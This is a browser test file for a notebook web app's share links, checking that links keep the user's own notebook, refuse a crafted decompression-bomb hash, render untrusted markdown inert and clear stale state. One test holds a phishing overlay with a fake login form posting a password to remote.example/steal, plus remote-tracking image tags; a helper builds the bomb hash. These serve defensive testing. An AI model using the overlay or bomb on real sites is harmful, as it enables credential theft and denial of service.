// Share links as a careless or hostile user meets them (issue 47 items 2 and 7, issue 48 item 9):
// a link's notebook never takes the place of the user's own one without their say; markdown from a
// link cannot cover the page or fetch anything; and the page never shows state that no longer
// holds (a share link of an earlier document, a refused value, another source's dataset names).
import { Buffer } from "node:buffer";
import type { Page } from "playwright-core";
import { assert, assertEquals } from "../assert.ts";
import { ARTIFACTS, DIST, launchChromium, screenshot, serveStatic, watchErrors } from "./harness.ts";
import { encodeShareHash } from "../../src/core/share.ts";
import type { Notebook } from "../../src/core/notebook.ts";

// RLVR_TEST_DIST: a build of one's own, where several people build dist/ at once.
const server = serveStatic(Deno.env.get("RLVR_TEST_DIST") || DIST);
const browser = await launchChromium();

async function freshPage(permissions: string[] = []) {
  const ctx = await browser.newContext({ viewport: { width: 1280, height: 1000 }, permissions });
  const page = await ctx.newPage();
  return { ctx, page, errors: watchErrors(page) };
}

const title = (page: Page) => page.getByTestId("nb-title").inputValue();
const stored = (page: Page, key: string) => page.evaluate((k) => JSON.parse(localStorage.getItem(k) ?? "null"), key);

async function setTitle(page: Page, t: string): Promise<void> {
  await page.getByTestId("nb-title").fill(t);
  await page.getByTestId("nb-title").dispatchEvent("change");
}

/** Opens `url` as a new page load (a hash change alone would not reload the page). */
async function open(page: Page, url: string): Promise<void> {
  await page.goto("about:blank");
  await page.goto(url);
  await page.getByTestId("nb-title").waitFor();
}

/** True when the element matching `selector` (searched through shadow roots) is what a click at its centre hits. */
function hitTest(page: Page, selector: string): Promise<boolean> {
  return page.evaluate((sel) => {
    const find = (root: Document | ShadowRoot): Element | null => {
      const hit = root.querySelector(sel);
      if (hit) return hit;
      for (const el of root.querySelectorAll("*")) {
        const inner = el.shadowRoot ? find(el.shadowRoot) : null;
        if (inner) return inner;
      }
      return null;
    };
    const target = find(document);
    if (!target) return false;
    const r = target.getBoundingClientRect();
    const x = r.left + r.width / 2, y = r.top + r.height / 2;
    let el = document.elementFromPoint(x, y);
    while (el?.shadowRoot) {
      const inner = el.shadowRoot.elementFromPoint(x, y);
      if (!inner || inner === el) break;
      el = inner;
    }
    return !!el && (el === target || target.contains(el));
  }, selector);
}

const linkDoc: Notebook = {
  version: 1,
  title: "A colleague's GRPO run",
  cells: [
    { id: "intro", type: "markdown", collapsed: false, params: { source: "# Shared\n\nTry these settings." } },
  ],
} as Notebook;

Deno.test({
  name:
    "share link: editing a link's notebook never overwrites the user's own; both stay reachable after reloads (issue 47 item 2)",
  sanitizeResources: false,
  sanitizeOps: false,
  async fn() {
    const { ctx, page, errors } = await freshPage();
    await open(page, server.url);
    await setTitle(page, "My own experiment");
    assertEquals((await stored(page, "rlvr-notebook-autosave")).title, "My own experiment");
    const hash = encodeShareHash(linkDoc);

    await open(page, server.url + hash);
    await page.getByTestId("from-link").waitFor();
    assert(
      /“My own experiment”, is kept apart and unchanged/.test(
        (await page.getByTestId("link-kept-apart").textContent()) ?? "",
      ),
    );
    await setTitle(page, "A colleague's GRPO run, edited");
    assertEquals(
      (await stored(page, "rlvr-notebook-autosave")).title,
      "My own experiment",
      "the edit did not overwrite the user's autosave",
    );

    // A reload of the link keeps the edits to it, and still offers the way back.
    await page.reload();
    await page.getByTestId("link-draft-restored").waitFor();
    assertEquals(await title(page), "A colleague's GRPO run, edited");
    await page.getByTestId("from-link").screenshot({ path: `${ARTIFACTS}/share-link-banner.png` });

    await page.getByTestId("back-to-mine").click();
    assertEquals(await title(page), "My own experiment");
    assert(!page.url().includes("#nb="), `the address bar no longer names the link: ${page.url()}`);
    assertEquals(await page.getByTestId("from-link").count(), 0);
    // The link's notebook is one click away, also after a reload.
    await page.reload();
    await page.getByTestId("nb-title").waitFor();
    assertEquals(await title(page), "My own experiment");
    const back = page.getByTestId("notebook-back");
    assert(/Back to A colleague/.test((await back.textContent()) ?? ""), (await back.textContent()) ?? "");
    await page.screenshot({
      path: `${ARTIFACTS}/share-link-restore-offer.png`,
      clip: { x: 0, y: 0, width: 1280, height: 260 },
    });
    await back.click();
    assertEquals(await title(page), "A colleague's GRPO run, edited");
    assert(
      /Back to My own experiment/.test((await page.getByTestId("notebook-back").textContent()) ?? ""),
      "and the user's notebook is offered back in turn",
    );
    assert(errors.length === 0, `no page errors: ${errors.join("; ")}`);
    await ctx.close();
  },
});

Deno.test({
  name:
    "share link: each link keeps its own edits; 'Keep as my notebook' makes one the autosave and keeps the user's one as the way back",
  sanitizeResources: false,
  sanitizeOps: false,
  async fn() {
    const { ctx, page, errors } = await freshPage();
    await open(page, server.url);
    await setTitle(page, "Mine");
    const hashA = encodeShareHash(linkDoc);
    await open(page, server.url + hashA);
    await setTitle(page, "Link A, edited");
    // A second link pasted into the same tab (only the hash changes) opens too; each link keeps its own edits.
    const hashB = encodeShareHash({ ...linkDoc, title: "Link B" });
    await page.evaluate((h) => (location.hash = h), hashB);
    await page.waitForFunction(() =>
      (document.querySelector("rl-notebook")?.shadowRoot?.querySelector("[data-testid=nb-title]") as
        | HTMLInputElement
        | null)?.value === "Link B"
    );
    await setTitle(page, "Link B, edited");
    await open(page, server.url + hashA);
    assertEquals(await title(page), "Link A, edited");
    await page.getByTestId("keep-link").click();
    assertEquals(await page.getByTestId("from-link").count(), 0);
    assertEquals((await stored(page, "rlvr-notebook-autosave")).title, "Link A, edited");
    assertEquals((await stored(page, "rlvr-notebook-previous")).title, "Mine");
    await page.reload();
    await page.getByTestId("nb-title").waitFor();
    assertEquals(await title(page), "Link A, edited");
    assertEquals(await page.getByTestId("from-link").count(), 0, "kept: no longer shown as a link's");
    assert(/Back to Mine/.test((await page.getByTestId("notebook-back").textContent()) ?? ""));
    assert(errors.length === 0, `no page errors: ${errors.join("; ")}`);
    await ctx.close();
  },
});

/** A share hash of `chars` LZW codes that each name the entry being defined: ~n²/2 characters once expanded (share.test.ts explains). */
function bombHash(chars: number): string {
  const alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+-$";
  const out: string[] = [];
  let acc = 0, nbits = 0, dictSize = 4, enlargeIn = 4, numBits = 3;
  const write = (value: number, n: number) => {
    for (let k = 0; k < n; k++) {
      acc = (acc << 1) | ((value >> k) & 1);
      if (++nbits < 6) continue;
      out.push(alphabet[acc]);
      acc = 0;
      nbits = 0;
    }
  };
  write(0, 2);
  write(97, 8);
  while (out.length < chars) {
    write(dictSize++, numBits);
    if (--enlargeIn === 0) enlargeIn = 2 ** numBits++;
  }
  return "#nb=" + out.join("");
}

Deno.test({
  name:
    "share link: a decompression-bomb link is refused with a reason and the user's notebook shown (issue 47 item 1)",
  sanitizeResources: false,
  sanitizeOps: false,
  async fn() {
    const { ctx, page, errors } = await freshPage();
    await open(page, server.url);
    await setTitle(page, "Mine");
    await open(page, server.url + bombHash(199_000));
    const alert = page.getByRole("alert").filter({ hasText: "does not hold a valid notebook" });
    assert(
      /link expands past 2,000,000 characters .* refused after reading [\d,]+ of its 199,00\d characters.*showing your last notebook/
        .test((await alert.textContent()) ?? ""),
      (await alert.textContent()) ?? "",
    );
    assertEquals(await title(page), "Mine");
    assertEquals(await page.getByTestId("from-link").count(), 0);
    assert(errors.length === 0, `no page errors: ${errors.join("; ")}`);
    await ctx.close();
  },
});

Deno.test({
  name:
    "share link: markdown cannot cover the page or fetch a remote resource; images load on a click (issue 47 item 7)",
  sanitizeResources: false,
  sanitizeOps: false,
  async fn() {
    const attack = [
      "# Results",
      '<div style="position:fixed;inset:0;z-index:2147483647;background:#c00;color:#fff;font-size:40px">Session expired. <form action="https://remote.example/steal"><input name="pw" placeholder="password"><button>Log in</button></form></div>',
      "<style>:host, * { position: fixed !important; top: 0; left: 0; width: 100vw; height: 100vh }</style>",
      '<p class="banner sticky" id="from-link">classes and ids of the page</p>',
      "![chart](https://remote.example/pixel.png)",
      '<img src="http://remote.example/img2.png" srcset="http://remote.example/s.png 2x">',
      '<img src="//remote.example/protocol-relative.png">',
      '<table background="http://remote.example/bg.png"><tr><td>cell</td></tr></table>',
      '<video poster="http://remote.example/poster.png" src="http://remote.example/v.mp4"></video>',
      '<link rel="stylesheet" href="http://remote.example/x.css"><svg><image href="http://remote.example/svg.png"/></svg>',
    ].join("\n\n");
    const doc = {
      version: 1,
      title: "Innocent",
      cells: [{ id: "m", type: "markdown", params: { source: attack } }, { id: "g", type: "grpo", params: {} }],
    };
    const { ctx, page, errors } = await freshPage();
    const remote: string[] = [];
    await page.route("**/*", (route) => {
      const u = new URL(route.request().url());
      if (u.hostname !== "127.0.0.1" && u.protocol !== "data:" && u.protocol !== "blob:") {
        remote.push(u.href);
        return route.abort();
      }
      return route.continue();
    });
    await open(page, server.url + encodeShareHash(doc as unknown as Notebook));
    await page.getByTestId("from-link").waitFor();
    await page.locator("rl-cell-markdown h1").waitFor();
    await page.waitForTimeout(500);
    assertEquals(remote, [], "no request to another host on open");

    const md = await page.locator("rl-cell-markdown").evaluate((el) => {
      const all = [...(el.shadowRoot?.querySelectorAll(".md *") ?? [])];
      return {
        fixed: all.filter((e) => getComputedStyle(e).position === "fixed").map((e) => e.outerHTML.slice(0, 80)),
        styled: all.filter((e) => e.hasAttribute("style") || e.hasAttribute("class") || e.hasAttribute("id")).map((e) =>
          e.outerHTML.slice(0, 80)
        ),
        controls: el.shadowRoot?.querySelectorAll("style, form, input, button, img, video, svg, link").length ?? -1,
        placeholders: [...(el.shadowRoot?.querySelectorAll("[data-remote-src]") ?? [])].map((e) => e.textContent),
        box: el.getBoundingClientRect().height,
      };
    });
    assertEquals(md.fixed, [], "nothing fixed-position");
    assertEquals(md.styled, [], "no style, class or id attribute");
    assertEquals(md.controls, 0, "no style, form, input or image element");
    assertEquals(md.placeholders.length, 3, JSON.stringify(md.placeholders));
    assert(md.placeholders.includes("remote image (click to load): chart"), JSON.stringify(md.placeholders));
    assert(md.box < 900, `the cell stays in its box: ${md.box} px`);
    // The banner is on top where a click lands; so are the notebook's controls.
    assert(await hitTest(page, "[data-testid=from-link]"), "the shared-link banner is what a click on it hits");
    assert(await hitTest(page, "[data-testid=keep-link]"), "its button too");
    assert(await hitTest(page, "[data-testid=share]"), "and the toolbar");
    await screenshot(page, "share-link-markdown-inert");

    // An image loads when the user asks for it, not before.
    await page.getByText("remote image (click to load): chart").click();
    await page.waitForFunction(() =>
      document.querySelector("rl-notebook")?.shadowRoot?.querySelector("rl-cell-markdown")?.shadowRoot?.querySelector(
        "img",
      ) != null
    );
    await page.waitForTimeout(300);
    assertEquals(remote, ["https://remote.example/pixel.png"]);
    await page.getByTestId("keep-link").click();
    assertEquals(await page.getByTestId("from-link").count(), 0, "the banner's button worked");
    assert(
      errors.every((e) => /remote\.example|ERR_FAILED/.test(e)),
      `no page errors but the refused image: ${errors.join("; ")}`,
    );
    await ctx.close();
  },
});

Deno.test({
  name: "stale state: share box, import, a refused value and dataset source say what holds now (issue 48 item 9)",
  sanitizeResources: false,
  sanitizeOps: false,
  async fn() {
    const { ctx, page, errors } = await freshPage(["clipboard-read", "clipboard-write"]);
    await open(page, server.url);
    const demoTitle = await title(page);

    // The share box: a Copy button; closed by an edit and by another notebook, never offering an old link.
    await page.getByTestId("share").click();
    const url = await page.getByTestId("share-url").inputValue();
    await page.getByTestId("share-copy").click();
    await page.getByTestId("share-copied").waitFor();
    assertEquals(await page.evaluate(() => navigator.clipboard.readText()), url);
    assert(!page.url().includes("#nb="), "the address bar is not changed into a link that goes stale");
    await page.getByTestId("share-box").screenshot({ path: `${ARTIFACTS}/share-box.png` });
    await setTitle(page, "Renamed");
    assertEquals(await page.getByTestId("share-box").count(), 0, "an edit closes the share box");
    await page.getByTestId("share").click();
    await page.getByTestId("share-box").waitFor();
    await page.getByTestId("notebooks").selectOption("hub-qwen-coder");
    assertEquals(await page.getByTestId("share-box").count(), 0, "another notebook closes the share box");
    await page.getByTestId("notebook-back").click();
    assertEquals(await title(page), "Renamed");

    // Import says what it opened and how to get back.
    await page.getByTestId("import-file").setInputFiles({
      name: "good.json",
      mimeType: "application/json",
      buffer: Buffer.from(
        '{"version": 1, "title": "Imported", "cells": [{"type": "markdown", "params": {"source": "imported"}}]}',
      ),
    });
    const info = (await page.getByTestId("info").textContent()) ?? "";
    assert(
      /Imported “Imported” from good\.json: 1 cell\. The notebook open before, “Renamed”, is kept/.test(info),
      info,
    );
    await page.getByTestId("notebook-back").click();
    assertEquals(await page.getByTestId("info").count(), 0, "the confirmation goes with the next change");

    // A refused value: the field shows what the document kept, the message quotes what was refused.
    await page.getByTestId("add-type").selectOption("grpo");
    await page.getByTestId("add-cell").click();
    const grpo = page.locator("li[data-cell-type=grpo]").last();
    const G = grpo.locator('[data-field="G"]');
    await G.fill("12");
    await G.dispatchEvent("change");
    await G.fill("-3");
    await G.dispatchEvent("change");
    const err = (await grpo.locator(".field-error").textContent()) ?? "";
    assert(/“-3” refused: .* kept 12/.test(err), err);
    assertEquals(await G.inputValue(), "12", "the field shows the kept value");

    // Dataset source: upload takes upload's name and format, not the demo's.
    const data = page.locator("li[data-cell-type=dataset]");
    await data.locator('[data-field="source"]').selectOption("upload");
    await data.getByTestId("upload").waitFor();
    assertEquals([
      await data.locator('[data-field="name"]').inputValue(),
      await data.locator('[data-field="format"]').inputValue(),
    ], ["my-database", "spider"]);

    // A second questions file: the database list is the new file's, not the first one's "(not uploaded)" names.
    const q = (db_id: string, question: string) => JSON.stringify({ db_id, question, query: "SELECT 1" });
    await data.getByTestId("upload-questions").setInputFiles({
      name: "first.jsonl",
      mimeType: "application/json",
      buffer: Buffer.from(q("aircraft", "How many planes?") + "\n"),
    });
    await data.getByTestId("question-count").waitFor();
    assert((await data.getByTestId("db-select").textContent())?.includes("aircraft (not uploaded)"));
    await data.getByTestId("upload-questions").setInputFiles({
      name: "second.jsonl",
      mimeType: "application/json",
      buffer: Buffer.from(q("pets", "How many pets?") + "\n"),
    });
    await page.waitForFunction(() =>
      /second/.test(
        document.querySelector("rl-notebook")?.shadowRoot?.querySelector("rl-cell-dataset")?.shadowRoot?.querySelector(
          "[data-testid=upload-summary]",
        )?.textContent ?? "",
      )
    );
    const options = (await data.getByTestId("db-select").textContent()) ?? "";
    assert(!options.includes("aircraft") && options.includes("pets (not uploaded)"), options);
    assert(!/aircraft/.test((await data.getByTestId("upload-missing").textContent()) ?? ""));
    // Many databases missing (a Spider questions file names ~140): a count and a few names, the rest folded.
    const many = Array.from({ length: 12 }, (_, i) =>
      q(`db${String(i).padStart(2, "0")}`, `Question ${i}?`)).join("\n") + "\n";
    await data.getByTestId("upload-questions").setInputFiles({
      name: "many.jsonl",
      mimeType: "application/json",
      buffer: Buffer.from(many),
    });
    await page.waitForFunction(() =>
      /many/.test(
        document.querySelector("rl-notebook")?.shadowRoot?.querySelector("rl-cell-dataset")?.shadowRoot?.querySelector(
          "[data-testid=upload-summary]",
        )?.textContent ?? "",
      )
    );
    const missing = ((await data.getByTestId("upload-missing").innerText()) ?? "").replace(/\s+/g, " ");
    assert(
      /^12 databases named by the questions are not uploaded \(db00, .*db07, …\): .* all 12/.test(missing),
      missing,
    );
    assert(!missing.includes("db11,"), `the rest is folded: ${missing}`);
    await data.screenshot({ path: `${ARTIFACTS}/stale-dataset-upload.png` });
    assert(demoTitle.length > 0);
    assert(errors.length === 0, `no page errors: ${errors.join("; ")}`);
    await ctx.close();
  },
});

Deno.test({
  name: "share link: teardown",
  sanitizeResources: false,
  sanitizeOps: false,
  async fn() {
    await browser.close();
    await server.close();
  },
});
